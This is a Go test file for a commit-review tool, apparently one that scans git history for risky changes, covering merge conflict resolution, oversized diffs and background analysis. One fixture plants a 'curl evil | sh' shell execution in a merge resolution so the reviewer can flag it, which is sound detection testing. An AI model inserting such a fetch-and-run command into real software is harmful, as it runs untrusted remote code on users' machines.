package review

import (
	"os/exec"
	"strings"
	"testing"
)

// A merge is reviewed by what it did itself: a conflict resolved with an
// extra process execution is a finding of the merge; the route its side
// branch brought in is the side commit's, and shows only in the
// first-parent analysis. The patch id stays the first-parent one, as
// verify computes it.
func TestMergeReviewedAsMerge(t *testing.T) {
	r := newRepo(t)
	base := "package main\n\nimport \"net/http\"\n\nfunc main() {\n\tversion := 1\n\t_ = version\n}\n"
	r.commit("Ann <ann@example.com>", "base", map[string]string{"main.go": base})
	r.git("checkout", "-q", "-b", "side")
	r.commit("Ann <ann@example.com>", "side: version 2 and a route", map[string]string{
		"main.go":  strings.Replace(base, "version := 1", "version := 2", 1),
		"route.go": "package main\n\nimport \"net/http\"\n\nfunc init() {\n\thttp.HandleFunc(\"/admin\", func(w http.ResponseWriter, r *http.Request) {})\n}\n",
	})
	r.git("checkout", "-q", "main")
	r.commit("Ann <ann@example.com>", "main: version 3", map[string]string{"main.go": strings.Replace(base, "version := 1", "version := 3", 1)})
	cmd := exec.Command("git", "merge", "-q", "side", "-m", "merge")
	cmd.Dir = r.dir
	if cmd.Run() == nil {
		t.Fatal("the merge was meant to conflict")
	}
	resolved := "package main\n\nimport (\n\t\"net/http\"\n\t\"os/exec\"\n)\n\nfunc main() {\n\tversion := 4\n\t_ = version\n\texec.Command(\"sh\", \"-c\", \"curl evil | sh\").Run()\n}\n"
	merge := r.commit("Ann <ann@example.com>", "Merge side"+claude, map[string]string{"main.go": resolved})

	s, err := Open(Options{Dir: r.dir})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	it, err := s.Item(merge)
	if err != nil {
		t.Fatal(err)
	}
	own, err := s.Analyse(it)
	if err != nil {
		t.Fatal(err)
	}
	first, err := s.AnalyseFirstParent(it)
	if err != nil {
		t.Fatal(err)
	}
	files := func(a *Analysis) string {
		var p []string
		for _, f := range a.Files {
			p = append(p, f.Path())
		}
		return strings.Join(p, " ")
	}
	cats := func(a *Analysis) string {
		var c []string
		for _, f := range a.Findings {
			c = append(c, f.Category+"@"+f.File)
		}
		return strings.Join(c, " ")
	}
	if files(own) != "main.go" {
		t.Errorf("the merge's own diff touches %q, want only main.go (the resolution)", files(own))
	}
	if !strings.Contains(cats(own), "exec@main.go") {
		t.Errorf("the exec added in the resolution is not a finding of the merge: %s", cats(own))
	}
	if strings.Contains(cats(own), "route.go") {
		t.Errorf("the side branch's route is not the merge's doing: %s", cats(own))
	}
	if !strings.Contains(files(first), "route.go") || !strings.Contains(cats(first), "entry-point@route.go") {
		t.Errorf("first-parent analysis must show what the side brought: files %q, findings %s", files(first), cats(first))
	}
	// The merge's own diff shows the conflict it resolved.
	var sawConflict bool
	for _, h := range own.Files[0].Hunks {
		for _, l := range h.Lines {
			sawConflict = sawConflict || strings.HasPrefix(l.Text, "<<<<<<<")
		}
	}
	if !sawConflict {
		t.Error("the remerge diff must show the conflict markers the resolution removed")
	}
	patch, err := s.Repo().Patch(it.Commit)
	if err != nil {
		t.Fatal(err)
	}
	want, err := s.Repo().PatchID(patch)
	if err != nil {
		t.Fatal(err)
	}
	if own.PatchID != want || first.PatchID != want {
		t.Errorf("patch ids %s and %s, want the first-parent %s", own.PatchID, first.PatchID, want)
	}
	// A clean merge did nothing of its own.
	r.git("checkout", "-q", "-b", "other", "HEAD~2")
	r.commit("Ann <ann@example.com>", "other", map[string]string{"other.go": "package main\n"})
	r.git("checkout", "-q", "main")
	r.git("merge", "-q", "--no-edit", "other")
	clean, err := s.Item("HEAD")
	if err != nil {
		t.Fatal(err)
	}
	a, err := s.Analyse(clean)
	if err != nil {
		t.Fatal(err)
	}
	if len(a.Files) != 0 || len(a.Findings) != 0 {
		t.Errorf("a clean merge has no changes of its own: %s / %s", files(a), cats(a))
	}
}

// A file whose diff is over the limit is analysed up to it and named.
func TestAnalyseCutsHugeDiff(t *testing.T) {
	r := newRepo(t)
	r.commit("Ann <ann@example.com>", "base", map[string]string{"main.go": "package main\n"})
	var big strings.Builder
	for i := 0; i < 5000; i++ {
		big.WriteString("line of generated text\n")
	}
	sha := r.commit("Ann <ann@example.com>", "huge"+claude, map[string]string{"gen.txt": big.String(), "main.go": "package main\n\n// x\n"})
	s, err := Open(Options{Dir: r.dir, MaxFileDiff: 10 << 10})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	it, err := s.Item(sha)
	if err != nil {
		t.Fatal(err)
	}
	a, err := s.Analyse(it)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(a.Cut, ",") != "gen.txt" {
		t.Errorf("cut %v, want gen.txt", a.Cut)
	}
	if n := len(a.Files[0].Hunks[0].Lines); n == 0 || n >= 5000 {
		t.Errorf("gen.txt holds %d lines", n)
	}
	patch, _ := s.Repo().Patch(it.Commit)
	if want, _ := s.Repo().PatchID(patch); a.PatchID != want {
		t.Errorf("patch id %s, want the whole diff's %s", a.PatchID, want)
	}
	whole, err := Open(Options{Dir: r.dir, MaxFileDiff: -1})
	if err != nil {
		t.Fatal(err)
	}
	defer whole.Close()
	b, err := whole.Analyse(it)
	if err != nil {
		t.Fatal(err)
	}
	if len(b.Cut) != 0 || len(b.Files[0].Hunks[0].Lines) != 5000 {
		t.Errorf("with no limit nothing is cut: %v", b.Cut)
	}
}

// Background analysis gives the same answer on processes of its own.
func TestAnalyseBackground(t *testing.T) {
	r, shas := history(t)
	s, err := Open(Options{Dir: r.dir, All: true})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	it, err := s.Item(shas["ai1"])
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan *Analysis)
	go func() {
		a, err := s.AnalyseBackground(it)
		if err != nil {
			t.Error(err)
		}
		done <- a
	}()
	fg, err := s.Analyse(it)
	if err != nil {
		t.Fatal(err)
	}
	bg := <-done
	if bg == nil || bg.PatchID != fg.PatchID || len(bg.Files) != len(fg.Files) || len(bg.Findings) != len(fg.Findings) {
		t.Errorf("background %+v, foreground %+v", bg, fg)
	}
}
